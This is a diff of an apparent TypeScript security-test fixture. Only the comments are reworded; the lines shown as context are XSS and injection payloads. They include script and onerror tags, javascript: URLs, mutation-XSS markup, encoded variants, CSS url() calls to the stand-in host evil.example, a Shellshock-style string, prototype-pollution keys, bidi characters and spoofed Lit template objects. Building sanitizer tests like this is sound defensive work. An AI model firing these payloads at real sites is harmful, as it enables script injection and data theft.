@@ -1,12 +1,12 @@
 /*
- * Texts that mean harm, for every field that a source can fill. Each tries to set `__pwn`, to ask a foreign host
- * (`evil.example`) for something, to add an element or an attribute, or to break out of whatever it may be put into.
+ * Malicious texts for every field that a source can fill. Each tries to set `__pwn`, to send a request to a foreign
+ * host (`evil.example`), to add an element or an attribute, or to break out of its context.
  */
 
 const CODE = 'top.__pwn=self.__pwn=1';
 const EVIL = '//evil.example/x';
 
-/** Elements that run code or ask for something by themselves. */
+/** Elements that run code or send requests by themselves. */
 const ELEMENTS = [
   `<script>${CODE}</script>`,
   `<script src=${EVIL}></script>`,
@@ -84,7 +84,7 @@ const ELEMENTS = [
   `<xss style=behavior:url(${EVIL})>`,
 ];
 
-/** Markup that a parser mends into something else, or that ends what it stands in. */
+/** Markup that a parser repairs into something else, or that closes the element around it. */
 const MUTATIONS = [
   `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
   `<template><p title="</template><img src=x onerror=${CODE}>">`,
@@ -154,7 +154,7 @@ const MUTATIONS = [
   `${'<div>'.repeat(600)}<img src=x onerror=${CODE}>`,
 ];
 
-/** Characters that are written as something else, once, twice or wrongly. */
+/** Characters that are escaped once, twice or incorrectly. */
 const REFERENCES = [
   `&lt;img src=x onerror=${CODE}&gt;`,
   `&amp;lt;img src=x onerror=${CODE}&amp;gt;`,
@@ -188,7 +188,7 @@ const REFERENCES = [
   `%3Cscript%3E${CODE}%3C/script%3E`,
 ];
 
-/** Addresses of schemes that do something. */
+/** Addresses with schemes that run something. */
 const SCHEMES = [
   'javascript:',
   ' javascript:',
@@ -261,7 +261,7 @@ const SCHEMES = [
   "https://evil.example/'onmouseover='top.__pwn=1",
 ].map((scheme) => (/[:/]$/.test(scheme) ? scheme + CODE : scheme));
 
-/** Style sheets and templates of others, where texts are put into such. */
+/** Style sheets and templates of other tools, in case texts are inserted into them. */
 const LANGUAGES = [
   `red;background:url(${EVIL})`,
   `url(${EVIL})`,
@@ -319,7 +319,7 @@ const LANGUAGES = [
   `() { :;}; x`,
 ];
 
-/** Names that every object has, or that mean something to the language. */
+/** Names of properties that every object has, or that have a meaning in the language. */
 const KEYS = [
   '__proto__',
   '__defineGetter__',
@@ -351,7 +351,7 @@ const KEYS = [
   '{}',
 ];
 
-/** Characters that turn, hide, or pile up. */
+/** Characters that change direction, hide, or stack. */
 const CHARACTERS = [
   '\u202eesrever',
   '\u202dforced\u202c',
@@ -394,7 +394,7 @@ export const PAYLOADS: readonly string[] = [
   ...new Set([...ELEMENTS, ...MUTATIONS, ...REFERENCES, ...SCHEMES, ...LANGUAGES, ...KEYS, ...CHARACTERS]),
 ];
 
-/** Values of JSON that are no text. */
+/** JSON values that are not text. */
 export const VALUES: readonly unknown[] = [
   null,
   true,
@@ -414,7 +414,7 @@ export const VALUES: readonly unknown[] = [
   {rendered: {rendered: 'x'}},
   {name: {name: 'x'}},
   {url: {url: 'x'}},
-  // What Lit takes for a template, a node, or a part.
+  // Values that Lit could take for a template, a node, or a part.
   {_$litType$: 1, strings: [`<img src=x onerror=${CODE}>`], values: []},
   {_$litType$: {h: `<img src=x onerror=${CODE}>`}, values: []},
   {_$litDirective$: 'x', values: []},
